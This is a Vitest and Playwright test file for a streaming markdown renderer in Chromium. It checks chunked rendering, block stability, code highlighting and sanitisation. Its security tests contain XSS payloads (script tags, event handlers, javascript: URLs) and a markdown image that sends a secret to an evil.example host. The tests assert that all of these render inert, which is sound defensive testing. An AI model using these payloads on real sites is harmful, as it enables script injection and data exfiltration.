/**
 * The streaming markdown renderer in real Chromium: for many random chunkings of real answers (cuts
 * inside markers, fences, table rows and multi-byte characters), the DOM after the last chunk equals the
 * answer rendered whole; complete blocks are rendered once and never touched again; tables, lists and
 * code show as such while they stream, open code stays plain and is highlighted once its fence closes;
 * hostile output renders inert and fetches nothing.
 */
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type * as markdownModule from '../../src/web/markdown/index.js';
import { screenshot } from '../support/chromium.js';
import { chunks, cutsOf, markdownDocument } from './markdown-arbitraries.js';
import { startMarkdownHarness, type MarkdownHarness } from './markdown-harness.js';

/** The test page's window: the module under test, and where a successful injection would leave a mark. */
type TestWindow = Window & { md: typeof markdownModule; __xss?: number };

const MIXED = readFileSync('test/fixtures/markdown/mixed-answer.md', 'utf8');
const LONG = readFileSync('test/fixtures/markdown/long-answer.md', 'utf8').slice(0, 9000);
const EDGES = [
  '**Bold start** then *em*, `code`, ~~gone~~ and a [link](https://example.com/a_b?x=1&y=2).',
  '',
  '- one\n- two\n\n- loose three\n\n  continued under three\n\n1. first\n2. second',
  '',
  'Heading by underline\n===',
  '',
  '| a | b |\n|:--|--:|\n| 1 | **2** |\n| 😀 | 東京 |',
  '',
  '```python\ndef f(x):\n    return x * 2  # *not em*\n```',
  'Right after the fence, no blank line.',
  '',
  '> quote line\nlazy continuation',
  '',
  'Steps:\n1. one\n2. two\n#not a heading',
  '',
  'Trailing text with café and 👩‍👩‍👧 and e\u0301 and 2*3.',
].join('\n');
const FIXTURES = { mixed: MIXED, edges: EDGES, long: LONG };

let h: MarkdownHarness;
let page: Page;
beforeAll(async () => {
  h = await startMarkdownHarness();
  page = await h.newPage();
});
afterAll(async () => {
  await h?.close();
});

/**
 * Streams `parts` into a new renderer, rendering after the parts flagged in `renders` (as frames do),
 * then finishes; renders the whole text once too. Returns both roots' HTML after highlighting.
 */
function streamAndWhole(parts: string[], renders: boolean[]): Promise<{ streamed: string; whole: string }> {
  return page.evaluate(
    async ({ parts, renders }) => {
      const root = document.createElement('div');
      const whole = document.createElement('div');
      document.body.append(root, whole);
      const renderer = new (window as unknown as TestWindow).md.StreamingMarkdown(root);
      parts.forEach((part, i) => {
        renderer.append(part);
        if (renders[i]) renderer.render();
      });
      renderer.finish();
      await renderer.settled();
      await (window as unknown as TestWindow).md.renderMarkdown(parts.join(''), whole);
      const result = { streamed: root.innerHTML, whole: whole.innerHTML };
      root.remove();
      whole.remove();
      return result;
    },
    { parts, renders },
  );
}

const chunking = (text: string) =>
  cutsOf(text).chain((cuts) =>
    fc.tuple(
      fc.constant(chunks(text, cuts)),
      fc.array(fc.boolean(), { minLength: cuts.length + 1, maxLength: cuts.length + 1 }),
    ),
  );

describe('streaming markdown in Chromium', () => {
  for (const [name, text] of Object.entries(FIXTURES)) {
    it(`ends equal to the whole render for random chunkings (${name})`, async () => {
      let runs = 0;
      await fc.assert(
        fc.asyncProperty(chunking(text), async ([parts, renders]) => {
          const { streamed, whole } = await streamAndWhole(parts, renders);
          runs += 1;
          expect(streamed).toBe(whole);
        }),
        { seed: 20261204, numRuns: 25 },
      );
      expect(runs).toBeGreaterThanOrEqual(20);
    });
  }

  it('ends equal to the whole render for generated answers (ambiguous lines included)', async () => {
    const answer = markdownDocument.chain((text) =>
      chunking(text).map(([parts, renders]) => ({ text, parts, renders })),
    );
    await fc.assert(
      fc.asyncProperty(answer, async ({ parts, renders }) => {
        const { streamed, whole } = await streamAndWhole(parts, renders);
        expect(streamed).toBe(whole);
      }),
      { seed: 42, numRuns: 60 },
    );
  });

  it('ends equal to the whole render with CR LF line ends split across chunks', async () => {
    const text = EDGES.replace(/\n/g, '\r\n');
    const parts = chunks(
      text,
      [...text.matchAll(/\r/g)].map((match) => match.index + 1),
    );
    const { streamed, whole } = await streamAndWhole(
      parts,
      parts.map(() => true),
    );
    expect(streamed).toBe(whole);
  });

  it('never touches a complete block again: same elements, no mutations, a selection in it survives', async () => {
    const result = await page.evaluate(async (text) => {
      const root = document.createElement('div');
      document.body.append(root);
      const renderer = new (window as unknown as TestWindow).md.StreamingMarkdown(root);
      const touched: string[] = [];
      const complete = new Set<Element>();
      const observer = new MutationObserver(() => undefined);
      observer.observe(root, { subtree: true, childList: true, characterData: true, attributes: true });
      let selected = '';
      let heading: Element | undefined;
      for (let i = 0; i < text.length; i += 5) {
        renderer.append(text.slice(i, i + 5));
        renderer.render();
        for (const record of observer.takeRecords()) {
          if (record.target === root) continue;
          const block = (record.target instanceof Element ? record.target : record.target.parentElement)!.closest(
            '.md-block',
          );
          // Highlighting swaps a finished code block's contents once: the only change allowed.
          const highlight = record.target instanceof Element && record.target.matches('pre > code');
          if (block !== null && complete.has(block) && !highlight) touched.push(block.outerHTML.slice(0, 80));
        }
        for (const block of root.querySelectorAll('.md-block:not([data-tail])')) complete.add(block);
        if (heading === undefined && complete.size > 0) {
          heading = root.querySelector('h1')!;
          const range = document.createRange();
          range.selectNodeContents(heading);
          getSelection()!.removeAllRanges();
          getSelection()!.addRange(range);
          selected = getSelection()!.toString();
        }
      }
      renderer.finish();
      await renderer.settled();
      observer.disconnect();
      const still = [...complete].filter((block) => block.isConnected).length;
      return {
        touched,
        complete: complete.size,
        still,
        headingKept: root.querySelector('h1') === heading,
        selected,
        stillSelected: getSelection()!.toString(),
        stats: renderer.stats,
        blocks: root.children.length,
      };
    }, MIXED);
    expect(result.touched).toEqual([]);
    expect(result.complete).toBeGreaterThanOrEqual(8);
    expect(result.still).toBe(result.complete);
    expect(result.headingKept).toBe(true);
    expect(result.selected).toBe('Streaming responses on Bedrock');
    expect(result.stillSelected).toBe(result.selected);
    expect(result.stats.completedBlocks).toBe(result.blocks);
  });

  it('keeps the tail element when the stream ends on a block that already shows its final form', async () => {
    const kept = await page.evaluate(() => {
      const root = document.createElement('div');
      document.body.append(root);
      const renderer = new (window as unknown as TestWindow).md.StreamingMarkdown(root);
      renderer.append('First paragraph.\n\nThe last one, ended.');
      renderer.render();
      const tail = root.lastElementChild;
      renderer.finish();
      return root.lastElementChild === tail && !tail!.hasAttribute('data-tail');
    });
    expect(kept).toBe(true);
  });

  it('shows a table, a list and code as such while they stream', async () => {
    const seen = await page.evaluate((text) => {
      const root = document.createElement('div');
      document.body.append(root);
      const renderer = new (window as unknown as TestWindow).md.StreamingMarkdown(root);
      const seen = { table: -1, li: -1, code: -1, length: text.length };
      for (let i = 0; i < text.length; i += 3) {
        renderer.append(text.slice(i, i + 3));
        renderer.render();
        if (seen.table < 0 && root.querySelector('table td')) seen.table = i;
        if (seen.li < 0 && root.querySelector('li')) seen.li = i;
        if (seen.code < 0 && root.querySelector('pre code')) seen.code = i;
      }
      return seen;
    }, MIXED);
    // Each appears within a few chunks of its first row, item or line, long before the stream ends.
    expect(seen.li).toBeGreaterThan(0);
    expect(seen.li).toBeLessThan(MIXED.indexOf('- Time to first token') + 12);
    expect(seen.table).toBeLessThan(MIXED.indexOf('| Claude') + 12);
    expect(seen.code).toBeLessThan(MIXED.indexOf('const stream') + 6);
  });

  it('shows an open code fence as plain text, appends to it as it grows, highlights it once it closes', async () => {
    const result = await page.evaluate(async () => {
      const root = document.createElement('div');
      document.body.append(root);
      const renderer = new (window as unknown as TestWindow).md.StreamingMarkdown(root);
      renderer.append('Code:\n\n```ts\nconst x: number = 1;\nfunction f() {');
      renderer.render();
      await renderer.settled();
      const open = {
        code: root.querySelector('pre code')?.textContent,
        spans: root.querySelectorAll('pre code span').length,
      };
      // A growing block gets its new lines appended, not re-rendered: the same text node, extended.
      const node = root.querySelector('pre code')!.firstChild;
      for (const line of ['\n  return x < 2 && "<b>";', '\n  // more', ' code', '\n', '}\n``']) {
        renderer.append(line);
        renderer.render();
      }
      const grown = {
        same: root.querySelector('pre code')!.firstChild === node,
        text: root.querySelector('pre code')!.textContent,
        spans: root.querySelectorAll('pre code span').length,
      };
      const appends = renderer.stats.codeAppends;
      renderer.append('`\n\nAfter.');
      renderer.render();
      await renderer.settled();
      return {
        open,
        grown,
        appends,
        highlighted: root.querySelectorAll('pre code .hljs-keyword').length,
        text: root.querySelector('pre code')!.textContent,
      };
    });
    expect(result.open).toEqual({ code: 'const x: number = 1;\nfunction f() {', spans: 0 });
    expect(result.grown).toEqual({
      same: true,
      text: 'const x: number = 1;\nfunction f() {\n  return x < 2 && "<b>";\n  // more code\n}',
      spans: 0,
    });
    expect(result.appends).toBeGreaterThanOrEqual(4);
    expect(result.highlighted).toBeGreaterThan(0);
    expect(result.text).toBe(result.grown.text);
  });

  it('loads a language only when a block needs it, and leaves unknown languages plain', async () => {
    const requests: string[] = [];
    const fresh = await h.newPage();
    fresh.on('request', (request) => requests.push(new URL(request.url()).pathname));
    const before = requests.length;
    const result = await fresh.evaluate(async () => {
      const root = document.createElement('div');
      document.body.append(root);
      await (window as unknown as TestWindow).md.renderMarkdown(
        '```python\nprint("hi")\n```\n\n```klingon\nqapla\n```\n\nText.',
        root,
      );
      return {
        python: root.querySelectorAll('code.language-python .hljs-built_in, code.language-python .hljs-string').length,
        klingon: root.querySelector('code.language-klingon')!.innerHTML,
      };
    });
    await fresh.close();
    expect(result.python).toBeGreaterThan(0);
    expect(result.klingon).toBe('qapla');
    const loaded = requests.slice(before);
    expect(loaded.some((path) => path.startsWith('/python-'))).toBe(true);
    expect(loaded.some((path) => path.startsWith('/rust-') || path.startsWith('/typescript-'))).toBe(false);
    expect(h.files.filter((path) => path.startsWith('/rust-'))).toHaveLength(1);
  });

  it('renders hostile output inert, streamed and whole, with safe links (no CSP to help)', async () => {
    const open = await h.newPage({ csp: false });
    const hostile = [
      '<script>window.__xss=1</script>',
      '<img src=x onerror="window.__xss=2">',
      '[a](javascript:window.__xss=3) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>alert(1)</script>) [d](vbscript:x)',
      '[e](java\tscript:alert(1)) [f](&#106;avascript:alert(1)) <javascript:alert(1)>',
      '<svg onload="window.__xss=4"></svg> <math><mi xlink:href="javascript:alert(1)">m</mi></math>',
      '<iframe src="javascript:window.__xss=5"></iframe> <a href="#" onclick="window.__xss=6">x</a> <style>*{}</style>',
      '<a href="data:text/html,<script>alert(1)</script>">d</a> <form action="https://evil.example"><input></form>',
      '<div style="background:url(https://evil.example/x)">styled</div>',
      '[safe](https://example.org/) [mail](mailto:a@example.org) [rel](/docs) [hash](#part)',
      // Highlighted code: its HTML never reaches the DOM as HTML, however it is highlighted.
      '```html\n<img src=x onerror="window.__xss=7"><script>window.__xss=8</script>\n```',
      '```js\nconst s = "</span><img src=x onerror=window.__xss=9>";\n```',
    ].join('\n\n');
    const result = await open.evaluate(async (text) => {
      const inspect = (root: Element) => ({
        dangerous: root.querySelectorAll('script, iframe, svg, math, style, object, embed, form, img, input').length,
        handlers: [...root.querySelectorAll('*')].flatMap((element) =>
          [...element.attributes].filter((a) => a.name.startsWith('on') || a.name === 'style').map((a) => a.name),
        ),
        links: [...root.querySelectorAll('a')].map((a) => ({
          href: a.getAttribute('href'),
          rel: a.getAttribute('rel'),
          target: a.getAttribute('target'),
        })),
        text: root.textContent,
        highlightedSpans: root.querySelectorAll('pre code.hljs span').length,
      });
      const streamedRoot = document.createElement('div');
      const wholeRoot = document.createElement('div');
      document.body.append(streamedRoot, wholeRoot);
      const renderer = new (window as unknown as TestWindow).md.StreamingMarkdown(streamedRoot);
      for (let i = 0; i < text.length; i += 5) {
        renderer.append(text.slice(i, i + 5));
        renderer.render();
      }
      renderer.finish();
      await renderer.settled();
      await (window as unknown as TestWindow).md.renderMarkdown(text, wholeRoot);
      await new Promise((resolve) => setTimeout(resolve, 200));
      return {
        xss: (window as unknown as TestWindow).__xss,
        streamed: inspect(streamedRoot),
        whole: inspect(wholeRoot),
      };
    }, hostile);
    expect(result.xss).toBeUndefined();
    for (const rendered of [result.streamed, result.whole]) {
      expect(rendered.dangerous).toBe(0);
      expect(rendered.handlers).toEqual([]);
      for (const link of rendered.links) {
        expect(link).toMatchObject({ rel: 'noopener noreferrer', target: '_blank' });
        if (link.href !== null) expect(link.href).toMatch(/^(https:|mailto:|\/|#)/);
      }
      expect(rendered.links.map((link) => link.href).filter((href) => href !== null)).toEqual([
        'https://example.org/',
        'mailto:a@example.org',
        '/docs',
        '#part',
      ]);
      // Raw HTML shows as the text it is.
      expect(rendered.text).toContain('<script>window.__xss=1</script>');
      expect(rendered.text).toContain('<iframe src="javascript:window.__xss=5"></iframe>');
      expect(rendered.text).toContain('<img src=x onerror="window.__xss=7"><script>window.__xss=8</script>');
      expect(rendered.text).toContain('const s = "</span><img src=x onerror=window.__xss=9>";');
      expect(rendered.highlightedSpans).toBeGreaterThan(5);
    }
  });

  it("starts loading a code block's language while the block still streams, and highlights it at its end", async () => {
    const requests: string[] = [];
    const fresh = await h.newPage();
    fresh.on('request', (request) => requests.push(new URL(request.url()).pathname));
    await fresh.evaluate(() => {
      const root = document.createElement('div');
      root.id = 'streamed';
      document.body.append(root);
      const renderer = new (window as unknown as TestWindow).md.StreamingMarkdown(root);
      (window as unknown as { renderer: unknown }).renderer = renderer;
      renderer.append('Go:\n\n```go\npackage main\n\nfunc main() {\n');
      renderer.render();
    });
    // The fence is still open: the block is plain text, and its language is on its way already.
    await expect.poll(() => requests.some((path) => path.startsWith('/go-')), { timeout: 10_000 }).toBe(true);
    const result = await fresh.evaluate(async () => {
      const renderer = (window as unknown as { renderer: markdownModule.StreamingMarkdown }).renderer;
      const root = document.getElementById('streamed')!;
      const spansWhileOpen = root.querySelectorAll('pre code span').length;
      renderer.append('\tprintln("hi")\n}\n```\n\nDone.');
      renderer.render();
      await renderer.settled();
      return {
        spansWhileOpen,
        keywords: root.querySelectorAll('pre code.hljs .hljs-keyword').length,
        text: root.querySelector('pre code')!.textContent,
      };
    });
    await fresh.close();
    expect(result.spansWhileOpen).toBe(0);
    expect(result.keywords).toBeGreaterThan(0);
    expect(result.text).toBe('package main\n\nfunc main() {\n\tprintln("hi")\n}');
  });

  it('sanitises even HTML that marked would never produce (the second layer)', async () => {
    const cleaned = await page.evaluate(() => {
      const dirty = [
        '<img src=x onerror="window.__xss=7"><img src="https://evil.example/p.png" alt="pixel">',
        '<a href="javascript:window.__xss=8">j</a><a href=" JaVaScRiPt:alert(1)">k</a><a href="https://ok.example/">ok</a>',
        '<svg><script>window.__xss=9</script></svg><math><mtext>m</mtext></math>',
        '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
        '<style>*{}</style><p style="color:red" onclick="x()">p</p><form><input type="image" src="x"></form>',
        '<video poster="https://evil.example/v.png"></video><img srcset="https://evil.example/s.png 2x" src="data:image/png;base64,AAAA">',
        '<input type="checkbox" checked><a href="data:text/html,x">d</a>',
      ].join('');
      const container = document.createElement('div');
      container.innerHTML = (window as unknown as TestWindow).md.sanitizeHtml(dirty);
      return {
        html: container.innerHTML,
        xss: (window as unknown as TestWindow).__xss,
        images: [...container.querySelectorAll('img')].map((img) => img.getAttribute('src')),
        inputs: [...container.querySelectorAll('input')].map((input) => input.outerHTML),
      };
    });
    expect(cleaned.xss).toBeUndefined();
    expect(cleaned.html).not.toMatch(/<(script|svg|math|iframe|object|embed|style|form|video)\b/);
    expect(cleaned.html).not.toMatch(/\s(on\w+|style|srcset|poster)=/);
    expect(cleaned.html).not.toMatch(/javascript:|evil\.example|data:text/i);
    expect(cleaned.html).toContain('pixel');
    expect(cleaned.html).toContain('<a href="https://ok.example/" rel="noopener noreferrer" target="_blank">ok</a>');
    expect(cleaned.images).toEqual(['data:image/png;base64,AAAA']);
    expect(cleaned.inputs).toEqual(['<input type="checkbox" checked="" disabled="">']);
  });

  it('never fetches a remote image: it shows as its alt text; an inline data: image shows', async () => {
    const requests: string[] = [];
    const fresh = await h.newPage();
    fresh.on('request', (request) => requests.push(request.url()));
    const pixel =
      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
    const text = `Here: ![leaked secret](https://evil.example/leak?q=secret) and ![dot](${pixel}) and ![rel](/x.png).`;
    const result = await fresh.evaluate(async (text) => {
      const streamed = document.createElement('div');
      const whole = document.createElement('div');
      document.body.append(streamed, whole);
      const renderer = new (window as unknown as TestWindow).md.StreamingMarkdown(streamed);
      for (let i = 0; i < text.length; i += 4) {
        renderer.append(text.slice(i, i + 4));
        renderer.render();
      }
      renderer.finish();
      await (window as unknown as TestWindow).md.renderMarkdown(text, whole);
      await new Promise((resolve) => setTimeout(resolve, 300));
      return [streamed, whole].map((root) => ({
        text: root.textContent,
        images: [...root.querySelectorAll('img')].map((img) => img.getAttribute('src')!.slice(0, 22)),
      }));
    }, text);
    await fresh.close();
    for (const rendered of result) {
      expect(rendered.text.trim()).toBe('Here: leaked secret and  and rel.');
      expect(rendered.images).toEqual(['data:image/png;base64,']);
    }
    expect(requests.filter((url) => !url.startsWith(h.url) && !url.startsWith('data:'))).toEqual([]);
    expect(requests.filter((url) => url.includes('x.png') || url.includes('evil'))).toEqual([]);
  });

  it('the naive renderer shows the same answer (for the benchmark)', async () => {
    const result = await page.evaluate(async (text) => {
      const ours = document.createElement('div');
      const naive = document.createElement('div');
      document.body.append(ours, naive);
      const renderers = [
        new (window as unknown as TestWindow).md.StreamingMarkdown(ours),
        new (window as unknown as TestWindow).md.NaiveRenderer(naive),
      ];
      for (const renderer of renderers) {
        for (let i = 0; i < text.length; i += 9) {
          renderer.append(text.slice(i, i + 9));
          renderer.render();
        }
        renderer.finish();
        await renderer.settled();
      }
      const flat = (root: Element) => root.innerHTML.replace(/<\/?div[^>]*>|\s+/g, '');
      return { same: flat(ours) === flat(naive), highlighted: naive.querySelectorAll('.hljs-keyword').length };
    }, MIXED);
    expect(result.same).toBe(true);
    expect(result.highlighted).toBeGreaterThan(0);
  });

  it('reads well, while streaming and at the end (screenshots for a person to look at)', async () => {
    // Mid-stream: the code fence still open, its second line half written.
    const midStream = MIXED.slice(0, MIXED.indexOf('for await') + 14);
    await page.evaluate((text) => {
      const root = document.getElementById('root')!;
      document.body.replaceChildren(root);
      root.replaceChildren();
      const renderer = new (window as unknown as TestWindow).md.StreamingMarkdown(root);
      for (let i = 0; i < text.length; i += 7) {
        renderer.append(text.slice(i, i + 7));
        renderer.render();
      }
    }, midStream);
    await page.setViewportSize({ width: 820, height: 1000 });
    await screenshot(page, 'markdown-render-streaming');
    await page.evaluate(async (text) => {
      const root = document.getElementById('root')!;
      document.body.replaceChildren(root);
      root.replaceChildren();
      const renderer = new (window as unknown as TestWindow).md.StreamingMarkdown(root);
      for (let i = 0; i < text.length; i += 7) {
        renderer.append(text.slice(i, i + 7));
        renderer.render();
      }
      renderer.finish();
      await renderer.settled();
    }, MIXED);
    const file = await screenshot(page, 'markdown-render');
    expect(file).toMatch(/markdown-render\.png$/);
  });
});
